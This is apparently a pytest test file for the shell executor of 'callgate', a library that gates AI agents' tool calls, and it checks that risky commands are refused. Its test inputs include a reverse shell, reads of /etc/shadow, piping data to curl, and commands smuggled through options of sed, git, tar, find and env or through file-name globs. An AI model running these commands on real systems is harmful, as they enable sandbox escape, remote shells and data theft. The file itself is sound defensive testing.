"""The shell executor: parsed, checked, and run as an argv in the real OS sandbox."""

from __future__ import annotations

from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callgate._model import ToolCall
from callgate.executors._shell import (
    DEFAULT_SHELL_POLICY,
    ShellExecutor,
    is_interpreter,
    program_name,
    unquoted_metacharacter,
)
from callgate.policy._schema import FilesystemPolicy, ToolPolicy
from callgate.sandbox import available_backends
from callgate.testing import tool_call

#: a call of the shell tool ``sh``
sh_call = partial(tool_call, "shell", "exec", "sh")

needs_sandbox = pytest.mark.skipif(not available_backends(),
                                   reason="no bwrap or firejail on this host")
ALLOWED = ["ls", "cat", "grep", "echo", "wc", "sudo", "timeout"]


def shell(workdir: Path, **kwargs: Any) -> ShellExecutor:
    kwargs.setdefault("allowed_commands", ALLOWED)
    return ShellExecutor(kwargs.pop("policy", None), working_dir=str(workdir), **kwargs)


def error_id(result: Any) -> str:
    return str(result.error).split(":", 1)[0]


@pytest.fixture
def work(tmp_path: Path) -> Path:
    (tmp_path / "a.txt").write_text("alpha\nbeta\n")
    return tmp_path


@needs_sandbox
def test_plain_command_string_runs_as_the_argv_the_parser_read(work: Path) -> None:
    result = shell(work)(sh_call(command="grep -n 'beta' a.txt"))
    assert result.status == "ok"
    assert result.output["stdout"] == "2:beta\n"


@needs_sandbox
def test_argv_runs_as_is_without_a_shell(work: Path) -> None:
    result = shell(work)(sh_call(argv=["echo", "$(id)", ";", "|"]))
    assert result.output["stdout"] == "$(id) ; |\n"


@needs_sandbox
def test_default_policy_hides_files_outside_the_working_dir(work: Path) -> None:
    result = shell(work)(sh_call(command="cat /etc/shadow"))
    assert result.status == "denied"
    assert error_id(result) == "sandbox.read"


@needs_sandbox
def test_default_policy_denies_writes(work: Path) -> None:
    result = shell(work, allow_metacharacters=True)(sh_call(command="echo x > b.txt"))
    assert result.status == "denied"
    assert not (work / "b.txt").exists()
    assert DEFAULT_SHELL_POLICY.network == "deny"


@needs_sandbox
def test_declared_policy_is_the_sandbox(work: Path) -> None:
    (work / "out").mkdir()
    policy = ToolPolicy(filesystem=FilesystemPolicy(read=["./**"], write=["./out/**"]),
                        network="deny", environment="deny")
    result = shell(work, policy=policy, allow_metacharacters=True)(
        sh_call(command="echo hi > out/b.txt"))
    assert result.status == "ok"
    assert (work / "out" / "b.txt").read_text() == "hi\n"


@pytest.mark.parametrize(("params", "reason"), [
    ({"command": "cat a.txt | grep a"}, "shell.metacharacter"),
    ({"command": "ls; ls"}, "shell.metacharacter"),
    ({"command": "echo $(ls)"}, "shell.metacharacter"),
    ({"command": "echo hi > x"}, "shell.metacharacter"),
    ({"command": "echo $HOME"}, "shell.metacharacter"),
    ({"command": "sudo cat /etc/shadow"}, "shell.wrapper"),
    ({"argv": ["sudo", "cat", "/etc/shadow"]}, "shell.wrapper"),
    ({"argv": ["timeout", "5", "cat", "a.txt"]}, "shell.wrapper"),
    ({"command": "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"}, "shell.interpreter"),
    ({"argv": ["bash", "-c", "id"]}, "shell.interpreter"),
    ({"argv": ["/usr/bin/python3.12", "-c", "print(1)"]}, "shell.interpreter"),
    ({"argv": ["sudo", "perl", "-e", "1"]}, "shell.interpreter"),
    ({"command": "curl http://x.example"}, "shell.command-not-allowed"),
    ({"argv": ["/tmp/ls"]}, "shell.command-not-allowed"),
    ({"command": "echo 'unterminated"}, "shell.unparseable"),
])
def test_refused_commands_never_start(work: Path, params: dict[str, Any], reason: str) -> None:
    # Backend "none" without the unconfined opt-in cannot start anything: had the call reached
    # the sandbox it would say sandbox.unavailable, so the reason proves the check refused it.
    result = shell(work, backend="none")(sh_call(**params))
    assert result.status == "denied", result
    assert error_id(result) == reason


@pytest.mark.parametrize("params", [{}, {"argv": "ls"}, {"argv": []}, {"command": ""},
                                    {"argv": ["ls"], "command": "ls"}])
def test_malformed_parameters_are_errors(work: Path, params: dict[str, Any]) -> None:
    result = shell(work)(sh_call(**params))
    assert result.status == "error"
    assert error_id(result) == "params.invalid"


@needs_sandbox
def test_metacharacters_run_through_sh_in_the_sandbox_only_when_allowed(work: Path) -> None:
    result = shell(work, allow_metacharacters=True)(sh_call(command="cat a.txt | grep beta"))
    assert result.status == "ok"
    assert result.output["stdout"] == "beta\n"
    refused = shell(work, allow_metacharacters=True)(sh_call(command="cat a.txt | curl -d @- x"))
    assert error_id(refused) == "shell.command-not-allowed"


def test_interpreters_are_refused_even_when_allowed_by_name(work: Path) -> None:
    ex = shell(work, allowed_commands=["python3", "node"])
    assert error_id(ex(sh_call(argv=["python3", "-c", "1"]))) == "shell.interpreter"
    assert error_id(ex(sh_call(command="node -e 1"))) == "shell.interpreter"


def test_other_tool_classes_are_refused(work: Path) -> None:
    wrong = ToolCall(tool="x", tool_class="http", action="get", parameters={"argv": ["ls"]})
    assert error_id(shell(work)(wrong)) == "executor.tool-class"


def test_program_names_lose_paths_and_versions() -> None:
    assert program_name("/usr/bin/python3.12") == "python"
    assert program_name("md5sum") == "md5sum"
    assert is_interpreter("/opt/node20") and not is_interpreter("ls")


@settings(max_examples=100)
@given(st.text(alphabet="ab ;|&$`'\"<>()\\\n", max_size=20))
def test_scanner_flags_exactly_what_the_parser_treats_as_more_than_a_plain_command(
        text: str) -> None:
    # Whatever the scanner lets through must parse to one plain simple command, so the
    # argv that runs is the one that was checked.
    from callgate.abstraction import abstract_shell

    if unquoted_metacharacter(text) is not None or not text.strip():
        return
    commands = abstract_shell(text)
    if any(c.parse_error for c in commands):
        return
    assert len(commands) <= 1
    if commands:
        cmd = commands[0]
        assert not (cmd.redirects or cmd.piped_from or cmd.dynamic or cmd.assignments)


# -- options that make an allowed program run a command ------------------------------------------

WRITABLE = ToolPolicy(filesystem=FilesystemPolicy(read=["./**"], write=["./**"]), network="deny",
                      environment="deny")
INJECTED = [
    {"command": "sed '1e touch pwned' a.txt"},
    {"command": "sed -n -e 's/alpha/touch pwned/e' a.txt"},
    {"argv": ["git", "-c", "alias.x=!touch pwned", "x"]},
    {"command": "git -c core.fsmonitor='touch pwned' status"},
    {"command": "tar --to-com='touch pwned' -xf a.tar"},
    {"command": "tar --checkpoint=1 --checkpoint-action=exec='touch pwned' -cf b.tar a.txt"},
    {"command": "find . -name a.txt -exec touch pwned \\;"},
    {"argv": ["env", "-S", "touch pwned"]},
]


@needs_sandbox
@pytest.mark.parametrize("params", INJECTED)
def test_commands_hidden_in_options_of_allowed_programs_never_run(
        work: Path, params: dict[str, Any]) -> None:
    import subprocess

    subprocess.run(["tar", "-cf", str(work / "a.tar"), "-C", str(work), "a.txt"], check=True)
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    ex = shell(work, policy=WRITABLE, allowed_commands=["sed", "git", "tar", "find", "env"],
               allow_metacharacters=True)
    result = ex(sh_call(**params))
    assert result.status == "denied", result
    assert error_id(result) == "shell.runs-command"
    assert not (work / "pwned").exists()


@needs_sandbox
def test_benign_options_of_the_same_programs_still_run(work: Path) -> None:
    ex = shell(work, policy=WRITABLE, allowed_commands=["sed", "tar"])
    assert ex(sh_call(command="sed -n 2p a.txt")).output["stdout"] == "beta\n"
    assert ex(sh_call(command="tar -cf b.tar a.txt")).status == "ok"
    assert (work / "b.tar").exists()


@pytest.mark.parametrize("params", [
    {"command": "xargs cat", "allow": True},
    {"command": "GIT_SSH_COMMAND='touch pwned' git fetch", "allow": True},
    {"command": "export GIT_SSH_COMMAND='touch pwned'; git fetch", "allow": True},
    {"argv": ["timeout", "5", "env", "LD_PRELOAD=/tmp/x.so", "cat", "a.txt"], "allow": True},
    {"argv": ["git", "-c", "core.pager=touch pwned", "log"], "allow": False},
    {"command": "bash -c \"sed '1e id' a.txt\"", "allow": True},
])
def test_wrappers_environment_and_nested_shells_cannot_hide_a_command(
        work: Path, params: dict[str, Any]) -> None:
    allow = params.pop("allow")
    ex = shell(work, backend="none", allowed_commands=[*ALLOWED, "git", "sed", "xargs", "env",
                                                       "bash"],
               allow_metacharacters=allow, allow_interpreters=allow)
    assert error_id(ex(sh_call(**params))) == "shell.runs-command"


def test_an_argv_too_long_to_parse_is_refused_not_run_unchecked(work: Path) -> None:
    ex = shell(work, backend="none", allowed_commands=["sh"], allow_interpreters=True)
    result = ex(sh_call(argv=["sh", "-c", "id " + "a" * 200_000]))
    assert error_id(result) == "shell.unparseable"


@needs_sandbox
@pytest.mark.parametrize("command", [
    "echo x; tar -cf b.tar *",            # the glob brings in the two files named below
    "echo x; tar -cf b.tar $(cat opts)",  # a substitution splits into options
])
def test_options_the_shell_makes_at_run_time_never_reach_a_checked_program(
        work: Path, command: str) -> None:
    (work / "--checkpoint=1").write_text("")
    (work / "--checkpoint-action=exec=touch pwned").write_text("")
    (work / "opts").write_text("--checkpoint=1 --checkpoint-action=exec=touch\\ pwned a.txt\n")
    ex = shell(work, policy=WRITABLE, allowed_commands=["tar", "echo", "cat", "touch"],
               allow_metacharacters=True)
    result = ex(sh_call(command=command))
    assert error_id(result) == "shell.runs-command", result
    assert not (work / "pwned").exists()


def test_an_argv_longer_than_the_string_bound_is_refused_before_it_is_peeled(
        work: Path) -> None:
    ex = shell(work, backend="none", allowed_commands=["env", "ls"], allow_metacharacters=True)
    assert error_id(ex(sh_call(argv=["env"] * 30_000 + ["ls"]))) == "shell.unparseable"
    assert error_id(ex(sh_call(command="env " * 12_000 + "ls"))) == "shell.unparseable"


@pytest.mark.parametrize("command", [
    "echo x; /bin/ba? -c 'touch pwned'",                        # a glob naming bash
    "echo x; $(echo bash) -c 'touch pwned'",
    "echo x; timeout 5 /usr/bin/gi? -c core.fsmonitor='touch pwned' status",
])
def test_a_program_the_shell_names_at_run_time_is_refused_with_no_allow_list(
        work: Path, command: str) -> None:
    # allowed_commands=None leaves names to the kernel, but interpreters and command-running
    # options are still refused: a program nobody can read cannot be judged for either
    ex = shell(work, backend="none", allowed_commands=None, allow_metacharacters=True)
    assert error_id(ex(sh_call(command=command))) == "shell.runs-command"
